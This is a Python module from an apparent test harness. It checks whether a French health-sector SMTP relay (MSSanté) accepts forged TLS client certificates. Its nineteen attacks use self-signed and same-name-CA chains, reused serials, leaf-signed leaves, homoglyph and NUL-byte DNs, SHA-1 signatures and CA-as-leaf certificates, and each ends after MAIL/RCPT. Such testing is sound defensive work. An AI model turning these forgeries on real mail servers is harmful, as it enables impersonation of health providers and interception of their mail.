"""Attacks on who the peer is: chains, issuers, names, serials (spec §2.2 steps 2-5, RELIABILITY §2).

Every attack ends in the same question: does the server take a recipient of its own from this certificate? With no recipient to
name, the answer to MAIL decides. Nothing is sent after that.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime

from cryptography import x509
from cryptography.x509.oid import NameOID

from mssante.attack.forge import Signer, attacker_key, authority, kept, leaf, load_leaf, load_signer, renamed
from mssante.attack.values import Arms, Attack, Identity, Outcome, Target
from mssante.attack.wire import Wire, WireEnd, client_context

Play = Callable[[Target, Arms], Outcome]
NO_GOOD = ("il faut --identity et --domain : le certificat d'un membre à imiter",
           "--identity and --domain are needed: a member to imitate")
NO_LAB = ("seulement contre un laboratoire : il faut la clé de son autorité", "in a lab only: its authority's key is needed")


def _now() -> datetime:
    return datetime.now(UTC)


def gets_in(target: Target, identity: Identity | None, domain: str) -> Outcome:
    """Say who we are with a certificate, then MAIL as somebody of `domain` and RCPT: FELL when both are taken."""
    try:
        context = client_context(identity)
    except OSError as exc:
        return Outcome.unclear(f"certificate unusable here: {exc}")
    try:
        with Wire(target) as wire:
            wire.greet()
            tls = wire.start_tls(context)
            steps = ["EHLO attaque.mssante.test", f"MAIL FROM:<controle@{domain}>"]
            steps += [f"RCPT TO:<{target.recipient}>"] if target.recipient else []
            for step in steps:
                answer = wire.ask(step)
                if not answer.yes:
                    return Outcome.held(f"{step.split(' ')[0]}: {answer}")
            return Outcome.fell(f"{steps[-1].split(' ')[0]}: {answer} ({tls})")
    except WireEnd as end:
        return Outcome.held(end) if str(end).startswith(("TLS", "read", "connection closed")) else Outcome.unclear(end)


def _nobody(target: Target, arms: Arms) -> Outcome:
    return gets_in(target, None, arms.good_domain or "mssante.test")


def _imitate(make: Callable[[x509.Certificate, x509.Certificate, datetime], tuple[x509.Certificate, ...]], label: str) -> Play:
    """An attack that forges a chain from a listed certificate and the true issuing authority's."""
    def play(target: Target, arms: Arms) -> Outcome:
        if arms.good is None:
            return Outcome.skipped(*NO_GOOD)
        good = load_leaf(arms.good.chain)
        chain = make(good, _issuer_of(good, arms), _now())
        return gets_in(target, kept(arms.folder, label, *chain), arms.good_domain)

    return play


def _issuer_of(good: x509.Certificate, arms: Arms) -> x509.Certificate:
    """Give the true issuing certificate when the anchors hold it, else one of our own with its name."""
    if arms.anchors is not None:
        for one in x509.load_pem_x509_certificates(arms.anchors.read_bytes()):
            if one.subject == good.issuer:
                return one
    return authority(good.issuer, "issuer", _now())


def _self_signed(good: x509.Certificate, issuer: x509.Certificate, at: datetime) -> tuple[x509.Certificate, ...]:
    return (leaf(good.subject, Signer(good.subject, attacker_key("leaf")), at),)


def _same_name_other_key(good: x509.Certificate, issuer: x509.Certificate, at: datetime) -> tuple[x509.Certificate, ...]:
    return leaf(good.subject, Signer(issuer.subject, attacker_key("fake")), at), authority(issuer.subject, "fake", at)


def _name_within_a_name(good: x509.Certificate, issuer: x509.Certificate, at: datetime) -> tuple[x509.Certificate, ...]:
    cn = str(issuer.subject.get_attributes_for_oid(NameOID.COMMON_NAME)[0].value)
    name = renamed(issuer.subject, NameOID.COMMON_NAME, f"{cn} BIS")
    return leaf(good.subject, Signer(name, attacker_key("fake")), at), authority(name, "fake", at)


def _foreign(good: x509.Certificate, issuer: x509.Certificate, at: datetime) -> tuple[x509.Certificate, ...]:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "AC de l'attaquant")])
    return leaf(good.subject, Signer(name, attacker_key("foreign")), at), authority(name, "foreign", at)


def _same_serial(good: x509.Certificate, issuer: x509.Certificate, at: datetime) -> tuple[x509.Certificate, ...]:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "AC de l'attaquant")])
    return (leaf(good.subject, Signer(name, attacker_key("foreign")), at, serial=good.serial_number),
            authority(name, "foreign", at))


def _true_chain_behind(good: x509.Certificate, issuer: x509.Certificate, at: datetime) -> tuple[x509.Certificate, ...]:
    return leaf(good.subject, Signer(good.subject, attacker_key("leaf")), at), good, issuer


def _leaf_as_authority(target: Target, arms: Arms) -> Outcome:
    """The listed peer's own key signs a certificate for the victim (CVE-2002-0862 class)."""
    if arms.good is None or not arms.victim:
        return Outcome.skipped(*NO_GOOD)
    good = load_leaf(arms.good.chain)
    name = renamed(good.subject, NameOID.COMMON_NAME, f"mta.{arms.victim}")
    chain = (leaf(name, load_signer(arms.good), _now()), good)
    return gets_in(target, kept(arms.folder, "leaf-as-authority", *chain), arms.victim)


def _issued(change: Callable[[x509.Name], x509.Name], label: str, **how: bool) -> Play:
    """An attack with a certificate that the lab's true authority signed, whose name resembles a listed one."""
    def play(target: Target, arms: Arms) -> Outcome:
        if arms.issuing is None or arms.good is None:
            return Outcome.skipped(*NO_LAB)
        good = load_leaf(arms.good.chain)
        forged = leaf(change(good.subject), load_signer(arms.issuing), _now(), **how)
        return gets_in(target, kept(arms.folder, label, forged, load_leaf(arms.issuing.chain)), arms.good_domain)

    return play


def _homoglyph(name: x509.Name) -> x509.Name:
    cn = str(name.get_attributes_for_oid(NameOID.COMMON_NAME)[0].value)
    return renamed(name, NameOID.COMMON_NAME, cn.replace("a", "а"))  # Cyrillic


def _with_nul(name: x509.Name) -> x509.Name:
    cn = str(name.get_attributes_for_oid(NameOID.COMMON_NAME)[0].value)
    return renamed(name, NameOID.COMMON_NAME, f"{cn}\0.attaquant.test")


def _other_structure(name: x509.Name) -> x509.Name:
    return renamed(name, NameOID.ORGANIZATIONAL_UNIT_NAME, "399099999900019")


def _names_in_a_value(name: x509.Name) -> x509.Name:
    """The listed DN written inside O: a check on the text of the name finds it there."""
    listed = name.rfc4514_string()[:60]
    return renamed(renamed(renamed(name, NameOID.ORGANIZATION_NAME, listed), NameOID.COMMON_NAME, "mta.attaquant.test"),
                   NameOID.ORGANIZATIONAL_UNIT_NAME, "399099999900019")


def _same(name: x509.Name) -> x509.Name:
    return name


def _lab_peer(peer: str) -> Play:
    def play(target: Target, arms: Arms) -> Outcome:
        if peer not in arms.peers:
            return Outcome.skipped(*NO_LAB)
        identity, domain = arms.peers[peer]
        return gets_in(target, identity, domain)

    return play


ATTACKS = (
    Attack("A-01", "aucun certificat", "no certificate", "spec §2.2.2", _nobody),
    Attack("A-02", "certificat autosigné au nom d'un membre", "self-signed under a member's name", "spec §2.2.2",
           _imitate(_self_signed, "self-signed")),
    Attack("A-03", "chaîne fausse : autorité de même nom, autre clé", "wrong chain: authority of the same name, other key",
           "ECO.1.1.10", _imitate(_same_name_other_key, "same-name")),
    Attack("A-04", "émetteur dont le nom contient le vrai", "issuer whose name contains the true one", "ECO.1.1.10",
           _imitate(_name_within_a_name, "substring")),
    Attack("A-05", "autorité étrangère", "foreign authority", "ECO.1.1.10", _imitate(_foreign, "foreign")),
    Attack("A-06", "même numéro de série, autre émetteur", "same serial, other issuer", "ECO.1.1.6",
           _imitate(_same_serial, "same-serial")),
    Attack("A-07", "autosigné, vraie chaîne jointe derrière", "self-signed, true chain sent behind it", "RFC 5280 §6",
           _imitate(_true_chain_behind, "true-chain-behind")),
    Attack("A-08", "le certificat d'un membre signe celui d'un autre", "a member's certificate signs another's",
           "RFC 5280 §6.1.4", _leaf_as_authority),
    Attack("A-09", "AC ÉLÉMENTAIRE PERSONNES", "authority ÉLÉMENTAIRE PERSONNES", "ECO.1.1.10", _lab_peer("personnes")),
    Attack("A-10", "certificat révoqué", "revoked certificate", "ECO.1.1.6", _lab_peer("revoked")),
    Attack("A-11", "certificat expiré", "expired certificate", "spec §2.2.2", _lab_peer("expired")),
    Attack("A-12", "certificat valable, absent de la liste", "valid certificate, not on the list", "spec §2.2.4",
           _lab_peer("unlisted")),
    Attack("A-13", "certificat inscrit pour un autre domaine", "certificate listed for another domain", "spec §2.2.5",
           _lab_peer("other_name")),
    Attack("A-14", "DN ressemblant : lettre d'un autre alphabet", "look-alike DN: a letter of another alphabet", "RQ-DN",
           _issued(_homoglyph, "homoglyph")),
    Attack("A-15", "DN ressemblant : octet NUL dans le CN", "look-alike DN: NUL in the CN", "RQ-DN", _issued(_with_nul, "nul")),
    Attack("A-16", "même CN, autre structure (OU)", "same CN, other structure (OU)", "RQ-DN",
           _issued(_other_structure, "other-ou")),
    Attack("A-17", "DN d'un membre écrit dans O", "a member's DN written inside O", "RQ-DN",
           _issued(_names_in_a_value, "dn-in-o")),
    Attack("A-18", "signature SHA-1", "SHA-1 signature", "RQ-SIG", _issued(_same, "sha1", weak=True)),
    Attack("A-19", "certificat d'autorité présenté par un serveur", "an authority's certificate shown by a server",
           "RFC 5280 §4.2.1.9", _issued(_same, "ca-leaf", authority=True)),
)
